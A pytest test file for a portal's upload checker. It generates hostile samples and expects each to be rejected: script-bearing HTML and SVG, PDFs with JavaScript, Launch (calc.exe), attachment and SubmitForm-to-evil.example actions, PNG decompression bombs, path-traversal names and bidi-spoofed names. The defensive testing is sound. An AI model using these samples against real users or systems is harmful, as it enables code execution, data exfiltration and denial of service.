"""Checking uploaded proof (phone photos and PDFs): every file is generated here."""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from PIL import ExifTags, Image, ImageFile
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from portal.adapters import uploads
from portal.adapters.uploads import (
    ALLOWED,
    CheckedFile,
    UploadRejected,
    display_name,
    inspect_upload,
)

MB = 1024 * 1024


def check(data: bytes, name: str = "proof.jpg", declared: str | None = None, **limits: int):
    limits.setdefault("max_bytes", 10 * MB)
    return inspect_upload(data, name, declared, **limits)


def rejected(data: bytes, name: str = "proof.jpg", declared: str | None = None, **limits: int):
    with pytest.raises(UploadRejected) as info:
        check(data, name, declared, **limits)
    return info.value.code


# ----------------------------------------------------------------------------- file makers


def photo(size: tuple[int, int] = (400, 300), mode: str = "RGB") -> Image.Image:
    """A picture with some structure (a gradient), so that orientation can be checked."""
    gradient = Image.linear_gradient("L").resize(size)
    return gradient.convert(mode)


def jpeg(image: Image.Image | None = None, **save: object) -> bytes:
    out = io.BytesIO()
    (image or photo()).save(out, "JPEG", **save)
    return out.getvalue()


def png(image: Image.Image | None = None, **save: object) -> bytes:
    out = io.BytesIO()
    (image or photo()).save(out, "PNG", **save)
    return out.getvalue()


def pdf(writer: PdfWriter | None = None) -> bytes:
    if writer is None:
        writer = PdfWriter()
        writer.add_blank_page(595, 842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A small PNG whose IHDR claims width×height (8-bit grey) with just one row of pixel data:
    a few hundred bytes that would need width*height bytes of memory to decode."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * (width + 1), 9)  # filter byte + one row
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def zipped(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, body in files.items():
            archive.writestr(name, body)
    return out.getvalue()


# ------------------------------------------------------------------------------ acceptance


def test_valid_jpeg_is_accepted_and_reencoded():
    original = jpeg()
    checked = check(original, "Foto aanwezigheid.JPG", "image/jpeg")
    assert isinstance(checked, CheckedFile)
    assert checked.content_type == "image/jpeg"
    assert checked.extension == ".jpg"
    assert checked.display_name == "Foto aanwezigheid.JPG"
    assert checked.size == len(checked.data)
    assert checked.sha256 == hashlib.sha256(checked.data).hexdigest()
    with Image.open(io.BytesIO(checked.data)) as image:
        assert image.format == "JPEG"
        assert image.size == (400, 300)
        assert image.mode == "RGB"


def test_valid_png_is_accepted_keeping_its_alpha():
    checked = check(png(photo(mode="RGBA")), "schermafdruk.png", "image/png")
    assert (checked.content_type, checked.extension) == ("image/png", ".png")
    with Image.open(io.BytesIO(checked.data)) as image:
        assert image.format == "PNG"
        assert image.mode == "RGBA"
        assert image.size == (400, 300)


def test_valid_pdf_is_accepted_unchanged():
    original = pdf()
    checked = check(original, "aanwezigheidslijst.pdf", "application/pdf")
    assert checked.data == original
    assert (checked.content_type, checked.extension) == ("application/pdf", ".pdf")
    assert checked.sha256 == hashlib.sha256(original).hexdigest()


def test_jpeg_and_jpeg_extensions_are_accepted_in_any_case():
    for name in ("a.jpeg", "a.JPEG", "a.Jpg", "a.PDF.png"):
        assert check(png(), name).content_type == "image/png"


def test_content_decides_over_name_and_declared_type():
    # A .jpg name with PNG content, declared as PDF: it is a PNG.
    checked = check(png(), "photo.jpg", "application/pdf")
    assert (checked.content_type, checked.extension) == ("image/png", ".png")


def test_pdf_with_a_plain_open_destination_and_apple_metadata_is_not_active():
    # /OpenAction as a destination (open at page 1) and /AAPL:Keywords are harmless.
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    writer.open_destination = page
    writer.add_metadata({"/AAPL:Keywords": "aanwezigheid"})
    data = pdf(writer)
    assert b"/AAPL:Keywords" in data
    assert check(data, "lijst.pdf").content_type == "application/pdf"


# ------------------------------------------------------------------------- size and names


def test_empty_file():
    assert rejected(b"", "proof.pdf") == "file_empty"


def test_too_large_by_one_byte():
    data = pdf()
    assert check(data, "a.pdf", max_bytes=len(data)).data == data
    assert rejected(data, "a.pdf", max_bytes=len(data) - 1) == "file_too_large"


def test_name_of_256_bytes_is_too_long():
    assert rejected(jpeg(), "a" * 252 + ".jpg") == "file_name_long"  # 256 bytes
    assert check(jpeg(), "a" * 251 + ".jpg").display_name.endswith("….jpg")  # 255: accepted
    # 256 bytes in UTF-8 but far fewer characters.
    assert rejected(jpeg(), "é" * 126 + ".jpg") == "file_name_long"


@pytest.mark.parametrize(
    "name",
    [
        "scan\u202egpj.pdf",  # right-to-left override: shows as "scanfdp.jpg"
        "scan\u2066.pdf",
        "scan\u200f.pdf",
        "scan\u061c.pdf",
        "scan\n.pdf",
        "line1\r\nline2.pdf",
        "nul\x00.pdf",
        "tab\t.pdf",
        "del\x7f.pdf",
        "sep\u2028.pdf",
    ],
)
def test_control_and_bidi_characters_in_the_name(name):
    assert rejected(pdf(), name) == "file_name_chars"


@pytest.mark.parametrize(
    "name",
    [
        "../x.pdf",
        "/etc/x.pdf",
        "C:\\x.pdf",
        "C:x.pdf",
        "dir/x.pdf",
        "dir\\x.pdf",
        "..",
        "a/../b.pdf",
    ],
)
def test_path_like_names(name):
    assert rejected(pdf(), name) == "file_name_path"


@pytest.mark.parametrize(
    "name",
    ["scan.pdf.exe", "scan", "scan.", "scan.pdf.", "proof.gif", "proof.svg", "proof.docx", ""],
)
def test_last_extension_must_be_allowed(name):
    assert rejected(pdf(), name) == "file_name_extension"


def test_name_checks_come_before_the_content_check():
    assert rejected(b"MZ\x90\x00", "x.exe") == "file_name_extension"
    assert rejected(b"MZ\x90\x00", "x.pdf") == "file_type"


# ---------------------------------------------------------------------------- content type


@pytest.mark.parametrize(
    ("data", "name", "declared"),
    [
        (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"This program", "scan.pdf", None),
        (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "scan.pdf", "application/pdf"),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "photo.png",
            "image/svg+xml",
        ),
        (zipped({"a.txt": b"hello"}), "scan.pdf", "application/zip"),
        (
            zipped(
                {
                    "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
                    "word/document.xml": b"<w:document/>",
                }
            ),
            "verslag.pdf",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "photo.png", "image/gif"),
        (b"RIFF\x1a\x00\x00\x00WEBPVP8 ", "photo.jpg", "image/webp"),
        (b" %PDF-1.7 not at offset 0", "scan.pdf", "application/pdf"),
    ],
    ids=["exe", "html", "svg", "zip", "docx", "gif", "webp", "pdf-not-at-0"],
)
def test_content_that_is_not_pdf_jpeg_or_png(data, name, declared):
    assert rejected(data, name, declared) == "file_type"


# ------------------------------------------------------------------------------ corruption


def test_truncated_jpeg():
    data = jpeg()
    assert rejected(data[: len(data) // 2]) == "file_corrupt"
    assert rejected(data[:200]) == "file_corrupt"


def test_garbage_after_image_headers():
    assert rejected(b"\xff\xd8\xff" + b"garbage" * 50) == "file_corrupt"
    assert rejected(b"\x89PNG\r\n\x1a\n" + b"garbage" * 50, "a.png") == "file_corrupt"
    data = png()
    assert rejected(data[: len(data) // 2], "a.png") == "file_corrupt"


def test_garbage_pdf():
    assert rejected(b"%PDF-1.7 garbage", "scan.pdf") == "file_corrupt"


def test_pdf_without_pages():
    assert rejected(pdf(PdfWriter()), "leeg.pdf") == "file_corrupt"


def test_encrypted_pdf():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("geheim", algorithm="AES-128")
    assert rejected(pdf(writer), "scan.pdf") == "file_pdf_encrypted"
    # Encrypted with an empty user password (opens without asking): still refused.
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("")
    assert rejected(pdf(writer), "scan.pdf") == "file_pdf_encrypted"


# ------------------------------------------------------------------------- active PDF content


def active_pdf(kind: str) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    if kind == "javascript":
        # pypdf 7 replaced writer.add_js(...) (now a DeprecationError) by add_open_action.
        writer.add_open_action(JavaScript("app.alert('hallo');"))
    elif kind == "page_aa":
        page.add_action(PageTrigger.OPEN, JavaScript("app.alert('page');"))
    elif kind == "attachment":
        writer.add_attachment("payload.exe", b"MZ\x90\x00")
    elif kind == "launch":
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/Launch"),
                NameObject("/F"): TextStringObject("calc.exe"),
            }
        )
    elif kind == "open_action_js":
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert(1)"),
            }
        )
    elif kind == "catalog_aa":
        writer.root_object[NameObject("/AA")] = DictionaryObject()
    elif kind == "xfa_script":
        xfa = writer._add_object(  # an XML form with its own script, as Acrobat runs it
            StreamObject.initialize_from_dictionary(
                {
                    "/Length": 0,
                    "__streamdata__": b'<xdp:xdp><template><script contentType="application/'
                    b'x-javascript">app.alert(1)</script></template></xdp:xdp>',
                }
            )
        )
        writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): xfa}
        )
    elif kind in {"uri", "submit_form", "import_data", "goto_remote"}:
        action = {
            "uri": {"/S": NameObject("/URI"), "/URI": TextStringObject("https://evil.example")},
            "submit_form": {
                "/S": NameObject("/SubmitForm"),
                "/F": TextStringObject("https://evil.example/collect"),
            },
            "import_data": {"/S": NameObject("/ImportData"), "/F": TextStringObject("x.fdf")},
            "goto_remote": {"/S": NameObject("/GoToR"), "/F": TextStringObject("other.pdf")},
        }[kind]
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 100, 100)]),
                NameObject("/A"): DictionaryObject({NameObject(k): v for k, v in action.items()}),
            }
        )
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return pdf(writer)


ACTIVE = [
    "javascript",
    "page_aa",
    "attachment",
    "launch",
    "open_action_js",
    "catalog_aa",
    "xfa_script",
    "uri",
    "submit_form",
    "import_data",
    "goto_remote",
]


@pytest.mark.parametrize("kind", ACTIVE)
def test_pdf_with_active_content(kind):
    assert rejected(active_pdf(kind), "scan.pdf") == "file_pdf_active"


@pytest.mark.parametrize("kind", ACTIVE)
def test_active_content_is_found_through_the_pdf_objects_not_only_the_bytes(kind):
    from pypdf import PdfReader

    assert uploads._pdf_has_active_content(PdfReader(io.BytesIO(active_pdf(kind))))
    assert not uploads._pdf_has_active_content(PdfReader(io.BytesIO(pdf())))


# --------------------------------------------------------------------------------- pixels


def test_huge_png_is_refused_from_its_header_without_decoding(monkeypatch):
    data = png_header_only(30_000, 30_000)
    assert len(data) < 5_000

    def no_decoding(self, *args, **kwargs):
        raise AssertionError("the image was decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", no_decoding)
    monkeypatch.setattr(Image.Image, "load", no_decoding)
    assert rejected(data, "huge.png") == "file_pixels"


@pytest.mark.parametrize(
    ("width", "height"),
    [
        (12_001, 1),  # one side over max_side
        (1, 12_001),
        (7_000, 7_000),  # 49 MP: over max_pixels, below Pillow's own limit
        (10_000, 10_000),  # 100 MP: Pillow's DecompressionBombWarning (an error under pytest)
        (20_000, 20_000),  # 400 MP: Pillow's DecompressionBombError
    ],
)
def test_too_many_pixels(width, height):
    assert rejected(png_header_only(width, height), "big.png") == "file_pixels"


def test_pixel_limits_are_parameters():
    assert rejected(png(), "a.png", max_side=399) == "file_pixels"
    assert rejected(png(), "a.png", max_pixels=400 * 300 - 1) == "file_pixels"
    assert check(png(), "a.png", max_side=400, max_pixels=400 * 300).size > 0


# ------------------------------------------------------------------------ metadata stripping


def gps_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SecretPhoneMaker"
    exif[ExifTags.Base.Model] = "SecretPhoneModel"
    exif[ExifTags.Base.DateTime] = "2026:03:16 10:00:00"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)  # tag 0x8825
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (50.0, 51.0, 17.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (4.0, 21.0, 9.25)
    gps[ExifTags.GPS.GPSMapDatum] = "WGS-84-SECRET-DATUM"
    return exif


def test_jpeg_with_exif_gps_comes_out_without_any_metadata():
    exif = gps_exif()
    assert ExifTags.IFD.GPSInfo == 0x8825
    original = jpeg(
        exif=exif,
        comment=b"SecretComment",
        xmp=b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>SecretXmp</x:xmpmeta>",
    )
    # The test file does carry all of it.
    with Image.open(io.BytesIO(original)) as image:
        assert image.getexif().get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitudeRef] == "N"
    for marker in (b"Exif", b"SecretPhoneModel", b"WGS-84-SECRET-DATUM", b"SecretComment"):
        assert marker in original

    checked = check(original, "IMG_0001.jpg")
    for marker in (
        b"Exif",
        b"SecretPhoneMaker",
        b"SecretPhoneModel",
        b"WGS-84-SECRET-DATUM",
        b"SecretComment",
        b"SecretXmp",
        b"xmpmeta",
        b"http://ns.adobe.com/xap/1.0/",
    ):
        assert marker not in checked.data
    with Image.open(io.BytesIO(checked.data)) as image:
        assert dict(image.getexif()) == {}
        assert image.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
        assert "exif" not in image.info
        assert "comment" not in image.info
        assert "xmp" not in image.info
        assert "icc_profile" not in image.info


def test_png_text_chunks_exif_and_icc_are_dropped():
    info = PngInfo()
    info.add_text("Author", "SecretAuthor")
    info.add_itxt("Description", "SecretDescription", zip=True)
    icc = b"\x00" * 128 + b"SecretIccProfile"
    original = png(photo(mode="RGB"), pnginfo=info, exif=gps_exif(), icc_profile=icc)
    assert b"SecretAuthor" in original

    checked = check(original, "scherm.png")
    for marker in (b"SecretAuthor", b"tEXt", b"iTXt", b"zTXt", b"eXIf", b"iCCP", b"Exif"):
        assert marker not in checked.data
    with Image.open(io.BytesIO(checked.data)) as image:
        assert dict(image.getexif()) == {}
        assert not ({"Author", "Description", "exif", "icc_profile"} & set(image.info))


def test_exif_rotated_photo_comes_out_upright():
    # A phone held upright stores a landscape sensor image plus "rotate 90° when showing".
    image = photo((400, 200))
    image.paste((255, 0, 0), (0, 0, 40, 40))  # a red mark in the stored top-left corner
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    checked = check(jpeg(image, exif=exif, quality=95), "portrait.jpg")
    with Image.open(io.BytesIO(checked.data)) as upright:
        assert upright.size == (200, 400)  # width and height swapped
        assert ExifTags.Base.Orientation not in upright.getexif()
        # Orientation 6: the stored top-left ends up at the top right.
        red, green, blue = upright.convert("RGB").getpixel((190, 10))
        assert red > 200 and green < 60 and blue < 60


def test_large_photo_is_downscaled_to_3000_pixels():
    checked = check(jpeg(photo((4000, 3000))), "IMG_1234.JPG")
    with Image.open(io.BytesIO(checked.data)) as image:
        assert image.size == (3000, 2250)
    checked = check(png(photo((1000, 3600), mode="L")), "scan.png")
    with Image.open(io.BytesIO(checked.data)) as image:
        assert image.size == (833, 3000)
        assert image.mode == "L"


def test_jpeg_output_is_rgb_whatever_went_in():
    for mode in ("L", "CMYK"):
        checked = check(jpeg(photo(mode=mode)), "a.jpg")
        with Image.open(io.BytesIO(checked.data)) as image:
            assert image.mode == "RGB"


def test_palette_png_with_transparency_keeps_it_as_rgba():
    image = photo(mode="RGB").convert("P", palette=Image.Palette.ADAPTIVE, colors=16)
    checked = check(png(image, transparency=0), "a.png")
    with Image.open(io.BytesIO(checked.data)) as out:
        assert out.mode == "RGBA"


# ---------------------------------------------------------------------------- display names


def test_display_name():
    assert display_name("  Scan\u0301.pdf  ") == "Scań.pdf"  # NFC: one character, trimmed
    long = "a" * 300 + ".jpeg"
    shortened = display_name(long)
    assert len(shortened) == 120
    assert shortened.endswith("….jpeg")
    assert display_name("gewoon.png") == "gewoon.png"


# -------------------------------------------------------------------------------- property


MAGIC_PREFIXES = [b"", b"%PDF-", b"%PDF-1.7\n", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n"]


@given(
    data=st.one_of(
        st.binary(max_size=2048),
        st.builds(lambda p, b: p + b, st.sampled_from(MAGIC_PREFIXES), st.binary(max_size=2048)),
        st.builds(
            lambda d, n: d[:n], st.sampled_from([jpeg(), png(), pdf()]), st.integers(0, 5000)
        ),
    ),
    name=st.one_of(
        st.text(max_size=300),
        st.sampled_from(["a.pdf", "a.jpg", "a.png", "a.jpeg"]),
        st.builds(lambda s: s + ".pdf", st.text(max_size=40)),
    ),
    declared=st.one_of(st.none(), st.text(max_size=30)),
)
@example(data=b"%PDF-1.7 garbage", name="a.pdf", declared=None)
def test_any_input_is_either_accepted_as_allowed_or_rejected_with_a_code(data, name, declared):
    try:
        checked = inspect_upload(data, name, declared, max_bytes=4096)
    except UploadRejected as rejection:
        assert rejection.code in {
            "file_empty",
            "file_too_large",
            "file_name_long",
            "file_name_chars",
            "file_name_path",
            "file_name_extension",
            "file_type",
            "file_corrupt",
            "file_pixels",
            "file_pdf_encrypted",
            "file_pdf_active",
        }
    else:
        assert checked.content_type in ALLOWED
        assert checked.extension == ALLOWED[checked.content_type]
        assert checked.size == len(checked.data) > 0
